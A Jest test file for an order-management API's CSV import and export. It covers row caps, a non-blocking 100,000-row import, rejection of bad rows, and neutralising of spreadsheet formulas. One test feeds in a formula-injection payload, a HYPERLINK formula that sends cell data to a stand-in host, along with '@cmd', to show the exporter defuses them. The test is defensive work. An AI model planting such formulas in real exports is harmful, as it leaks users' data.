/**
 * CSV imports that cannot stall the API (issue 19, finding 5) and exports that cannot run formulas (finding 6).
 * The API is built in this process on a SQLite database, with a stand-in for Temporal: a file of 100,000 product
 * rows is imported through it while the health check is asked every 20 ms. Before, the checks were array scans per
 * row (50 s of work for this file, all on the event loop) and the health check waited for the whole import.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Server } from 'node:http';
import type { Client } from '@temporalio/client';
import { createApp } from '../../api/app';
import { createApiKey } from '../../access/key-store';
import { createDb, type Db } from '../../db/client';
import { migrate } from '../../db/migrate';
import { spreadsheetSafe, fromSpreadsheetSafe } from '../../domain/spreadsheet-cells';
import { exportProducts, exportStock, importProducts } from '../../inventory/csv';
import { loadConfig } from '../../lib/config';
import { PRODUCT_CSV_HEADER, productsFile, SIZES } from '../support/product-csv';

const ROWS = 100_000;
interface ErrorBody {
  error: { code: string; details: { rows?: unknown[]; maxRows?: number } };
}
/** Four sizes per product (test/support/product-csv.ts): 25,000 products, 100,000 variants. */
const HEADER = PRODUCT_CSV_HEADER;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shop-oms-csv-large-'));
let db: Db;
let server: Server;
let baseUrl: string;
let adminKey: string;

/** Temporal as the health check sees it: always up (this test is about the database and the event loop). */
const temporal = { connection: { workflowService: { getSystemInfo: () => Promise.resolve({}) } } } as unknown as Client;

beforeAll(async () => {
  const url = `file:${path.join(dir, 'csv-large.db')}`;
  await migrate(url);
  db = createDb(url);
  await db.location.create({ data: { code: 'WH', name: 'Warehouse', kind: 'WAREHOUSE' } });
  adminKey = (await createApiKey(db, { name: 'csv test admin', role: 'admin' })).key;
  const config = loadConfig({
    DATABASE_URL: url,
    OMS_PAYLOAD_KEYS: `csv:${crypto.randomBytes(32).toString('base64')}`,
    OMS_CSV_MAX_ROWS: String(ROWS),
    OMS_CSV_MAX_MB: '20',
  });
  const app = createApp(db, temporal, config, () => Promise.resolve());
  server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise((resolve) => server?.close(resolve));
  await db?.$disconnect();
  fs.rmSync(dir, { recursive: true, force: true });
});

const postCsv = (route: string, body: string) =>
  fetch(`${baseUrl}${route}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${adminKey}`, 'content-type': 'text/csv' },
    body,
  });

/** Asks GET /api/health every `everyMs` until stopped; answers each with its status and latency. */
function healthProbe(everyMs: number) {
  const answers: { status: number; ms: number }[] = [];
  let stopped = false;
  const loop = (async () => {
    while (!stopped) {
      const started = performance.now();
      const response = await fetch(`${baseUrl}/api/health`);
      await response.arrayBuffer();
      answers.push({ status: response.status, ms: performance.now() - started });
      await new Promise((r) => setTimeout(r, everyMs));
    }
  })();
  return async () => {
    stopped = true;
    await loop;
    return answers;
  };
}

/** The longest gap between ticks of a 10 ms timer, as a cheap measure of how long the event loop was held. */
function loopProbe() {
  let last = performance.now();
  let longest = 0;
  const timer = setInterval(() => {
    const now = performance.now();
    longest = Math.max(longest, now - last);
    last = now;
  }, 10);
  return () => {
    clearInterval(timer);
    return longest;
  };
}

test('a file over OMS_CSV_MAX_ROWS gets 413 naming the cap, and nothing is written', async () => {
  const response = await postCsv('/api/products/import', productsFile(ROWS + 1));
  expect(response.status).toBe(413);
  const { error } = (await response.json()) as ErrorBody & { error: { message: string } };
  expect(error).toMatchObject({ code: 'CSV_TOO_MANY_ROWS', details: { maxRows: ROWS } });
  expect(error.message).toContain(`more than ${ROWS} rows`);
  expect(await db.productVariant.count()).toBe(0);
  expect(await db.product.count()).toBe(0);
});

test('the cap applies to the stock import too, and importProducts refuses past its own cap', async () => {
  const stock = ['sku,location,on_hand,safety_stock', 'A,WH,1,0', 'B,WH,1,0', 'C,WH,1,0'].join('\n');
  await expect(importProducts(db, productsFile(3), { maxRows: 2 })).rejects.toMatchObject({ maxRows: 2 });
  const small = createApp(
    db,
    temporal,
    loadConfig({
      OMS_PAYLOAD_KEYS: `csv:${crypto.randomBytes(32).toString('base64')}`,
      OMS_CSV_MAX_ROWS: '2',
    }),
    () => Promise.resolve(),
  );
  const smallServer = small.listen(0, '127.0.0.1');
  await new Promise((resolve) => smallServer.once('listening', resolve));
  try {
    const response = await fetch(
      `http://127.0.0.1:${(smallServer.address() as AddressInfo).port}/api/inventory/import`,
      {
        method: 'POST',
        headers: { authorization: `Bearer ${adminKey}`, 'content-type': 'text/csv' },
        body: stock,
      },
    );
    expect(response.status).toBe(413);
    expect(((await response.json()) as ErrorBody).error.details).toEqual({ maxRows: 2 });
  } finally {
    await new Promise((resolve) => smallServer.close(resolve));
  }
  expect(await db.stockMovement.count()).toBe(0);
  expect(await db.stockLevel.count()).toBe(0);
});

test('100,000 product rows import through the API while the health check keeps answering', async () => {
  const file = productsFile(ROWS);
  const stopHealth = healthProbe(20);
  const stopLoop = loopProbe();
  const started = performance.now();
  const response = await postCsv('/api/products/import', file);
  const importMs = performance.now() - started;
  const longestTickMs = stopLoop();
  const health = await stopHealth();
  expect(response.status).toBe(200);
  expect(await response.json()).toEqual({ products: ROWS / SIZES.length, variants: ROWS });
  expect(await db.productVariant.count()).toBe(ROWS);
  expect(await db.product.count()).toBe(ROWS / SIZES.length);
  const last = await db.productVariant.findUniqueOrThrow({ where: { sku: 'P24999-XL' }, include: { product: true } });
  expect(last).toMatchObject({
    barcode: String(69_0000_0000_00 + ROWS - 1),
    priceMinor: 12_900,
    attributes: { size: 'XL' },
  });
  expect(last.product).toMatchObject({ code: 'P24999', name: 'Shirt 24999', serialised: false });

  // The event loop was never held for the whole import: the health check was answered all along. The figures
  // (import time, the longest tick gap, health latency) are measured in the bench (`npm run bench -- --only import`);
  // here the bounds are loose enough for a loaded 2-core box.
  const slowest = Math.max(...health.map((h) => h.ms));
  const summary = {
    importMs: Math.round(importMs),
    longestTickMs: Math.round(longestTickMs),
    answers: health.length,
    slowestHealthMs: Math.round(slowest),
  };
  expect(health.every((h) => h.status === 200)).toBe(true);
  expect(health.length).toBeGreaterThanOrEqual(10);
  expect(slowest).toBeLessThan(importMs);
  expect(summary.longestTickMs).toBeLessThan(2_000);
}, 180_000);

test('importing the same 100,000 rows again changes only what changed', async () => {
  const cheaper = productsFile(ROWS).replace(`P7-M,${69_0000_0000_00 + 29},12900`, `P7-M,${69_0000_0000_00 + 29},9900`);
  expect(cheaper).not.toBe(productsFile(ROWS));
  const response = await postCsv('/api/products/import', cheaper);
  expect(response.status).toBe(200);
  expect((await db.productVariant.findUniqueOrThrow({ where: { sku: 'P7-M' } })).priceMinor).toBe(9_900);
  expect((await db.productVariant.findUniqueOrThrow({ where: { sku: 'P7-L' } })).priceMinor).toBe(12_900);
  expect(await db.productVariant.count()).toBe(ROWS);
}, 180_000);

test('a bad row among 100,000 is named and nothing is written', async () => {
  const lines = productsFile(ROWS).split('\n');
  lines[1] = lines[1].replace(',12900,', ',1,'); // P0-S made cheaper: must not be written
  lines[ROWS] = lines[ROWS].replace('P24999-XL', 'P0-S'); // the last row repeats the first row's SKU
  const response = await postCsv('/api/products/import', lines.join('\n'));
  expect(response.status).toBe(422);
  const { error } = (await response.json()) as ErrorBody;
  expect(error.details.rows).toEqual([
    { row: ROWS + 1, column: 'sku', message: 'SKU P0-S already on row 2' },
    { row: ROWS + 1, column: 'barcode', message: `barcode ${69_0000_0000_00 + ROWS - 1} belongs to P24999-XL` },
  ]);
  expect((await db.productVariant.findUniqueOrThrow({ where: { sku: 'P0-S' } })).priceMinor).toBe(12_900);
}, 180_000);

test('a product named as a formula is exported as text and imports back unchanged', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const file = [
    HEADER,
    `FX-1,"${formula.replace(/"/g, '""')}",@cmd,false,FX-1-A,6990000000001,100,colour=-red`,
    `FX-2,+SUM(1),-2+3,false,FX-2-A,6990000000002,200,`,
  ].join('\n');
  expect(await importProducts(db, file, { maxRows: 10 })).toEqual({ products: 2, variants: 2 });
  const exported = (await exportProducts(db)).split('\n');
  expect(exported).toContain(
    `FX-1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@cmd,false,FX-1-A,6990000000001,100,colour=-red`,
  );
  expect(exported).toContain(`FX-2,'+SUM(1),'-2+3,false,FX-2-A,6990000000002,200,`);
  // Every exported cell: none starts a formula.
  const cells = exported.slice(1).flatMap((line) => line.split(','));
  expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);

  await importProducts(db, exported.join('\n'), { maxRows: ROWS + 10 });
  expect((await db.product.findUniqueOrThrow({ where: { code: 'FX-1' } })).name).toBe(formula);
  expect((await db.product.findUniqueOrThrow({ where: { code: 'FX-2' } })).category).toBe('-2+3');
}, 180_000);

test('the stock export neutralises text cells too, and keeps numbers as numbers', async () => {
  const location = await db.location.create({ data: { code: '=LOC', name: 'odd', kind: 'WAREHOUSE' } });
  await db.stockLevel.create({ data: { sku: 'FX-1-A', locationId: location.id, onHand: 3, safetyStock: 1 } });
  expect((await exportStock(db)).split('\n')).toContain("FX-1-A,'=LOC,3,1");
});

test('spreadsheetSafe quotes text that a spreadsheet would run, leaves numbers and plain text alone', () => {
  for (const risky of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '-3'])
    expect(spreadsheetSafe(risky)).toBe(`'${risky}`);
  for (const plain of ['Polo shirt', '1-2', 'a=b', "'quoted", '', '李雷']) expect(spreadsheetSafe(plain)).toBe(plain);
  expect(spreadsheetSafe(-3)).toBe(-3);
  expect(spreadsheetSafe(12_900)).toBe(12_900);
  for (const text of ['=1+1', '-3', "'=x", "'plain", 'plain'])
    expect(fromSpreadsheetSafe(String(spreadsheetSafe(text)))).toBe(text);
});

test("SQLite's automatic checkpoint, held back during an import's transaction, is on again after it", async () => {
  // inventory/csv-write.ts checkpointAfter: the WAL is copied on a turn of its own, not inside the COMMIT.
  expect(await importProducts(db, productsFile(10, { prefix: 'CK', firstBarcode: 67_0000_0000_00 }))).toEqual({
    products: 3,
    variants: 10,
  });
  expect(await db.$queryRawUnsafe('PRAGMA wal_autocheckpoint')).toEqual([{ wal_autocheckpoint: 1000n }]);
});
